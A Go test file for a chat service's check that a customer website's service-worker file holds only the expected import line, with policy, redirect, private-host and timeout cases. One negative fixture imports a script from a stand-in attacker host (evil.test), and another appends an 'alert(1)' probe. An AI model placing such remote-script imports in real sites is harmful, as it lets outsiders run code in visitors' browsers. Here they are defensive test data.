package notify_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/botifire/livechat/shared/chat"
	"github.com/botifire/livechat/shared/chattest"
	"github.com/botifire/livechat/shared/egress"
	"github.com/botifire/livechat/shared/notify"
)

const door = "https://chat.test"

// serves is a website that serves something at the place of the file.
func serves(t *testing.T, kind, body string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != chat.WorkerPath || r.Header.Get("Cookie") != "" {
			t.Errorf("it asks for %s", r.URL)
		}
		w.Header().Set("Content-Type", kind)
		_, _ = w.Write([]byte(body))
	}
}

func withPolicy(policy string, next http.HandlerFunc) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Security-Policy", policy)
		next(w, r)
	}
}

// The file of a website is the line that fetches our service worker, as JavaScript, at its place.
func TestTheFileOfAWebsiteIsTheOneLine(t *testing.T) {
	line, js := notify.WorkerFile(door), "text/javascript; charset=utf-8"
	for what, one := range map[string]struct {
		does  http.HandlerFunc
		wrong string
	}{
		"the line":              {serves(t, js, line), ""},
		"with a semicolon":      {serves(t, "application/javascript", "\ufeff"+line+";\n"), ""},
		"in other marks":        {serves(t, js, strings.ReplaceAll(line, "'", `"`)), ""},
		"no file":               {http.NotFound, "not there"},
		"another text":          {serves(t, js, "importScripts('https://evil.test/widget/sw.js')"), "another text"},
		"more text":             {serves(t, js, line+"\nalert(1)"), "another text"},
		"a page for everything": {serves(t, "text/html", line), "JavaScript"},
		"its policy allows us":  {withPolicy("script-src 'self' "+door, serves(t, js, line)), ""},
		"its policy does not":   {withPolicy("script-src 'self'", serves(t, js, line)), "Policy"},
		"trusted types":         {withPolicy("require-trusted-types-for 'script'", serves(t, js, line)), "Policy"},
		"huge":                  {serves(t, js, line+strings.Repeat(" ", 1<<20)), ""},
		"huge and wrong":        {serves(t, js, strings.Repeat("x", 1<<20)), "another text"},
		"elsewhere":             {http.RedirectHandler("/other", http.StatusFound).ServeHTTP, "another address"},
		"broken":                {func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusTeapot) }, "418"},
	} {
		server := httptest.NewServer(one.does)
		b := notify.New(chattest.New(t).Desk, nil)
		b.Client, b.Door, b.Local = egress.Client("local"), door, true
		got := b.Look(t.Context(), server.URL)
		if one.wrong == "" && got != "" || !strings.Contains(got, one.wrong) {
			t.Errorf("%s: %q", what, got)
		}
		server.Close()
	}
}

// A website that answers slowly is given up, and one that is no public one is not called.
func TestAWebsiteThatDoesNotAnswer(t *testing.T) {
	b := notify.New(chattest.New(t).Desk, nil)
	b.Door, b.Client = door, egress.Client("prod")
	inside := httptest.NewTLSServer(http.NotFoundHandler())
	defer inside.Close()
	for origin, wrong := range map[string]string{
		inside.URL: "No public website", "https://localhost": "No public website", "http://shop.test": "https",
	} {
		if got := b.Look(t.Context(), origin); !strings.Contains(got, wrong) {
			t.Errorf("%s: %q", origin, got)
		}
	}
	b.Local, b.Client = true, egress.Client("local")
	b.Client.Timeout = 50 * time.Millisecond
	until := make(chan struct{})
	slow := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { <-until }))
	defer slow.Close()
	defer close(until)
	if got := b.Look(t.Context(), slow.URL); !strings.Contains(got, "did not answer") {
		t.Errorf("slow: %q", got)
	}
}
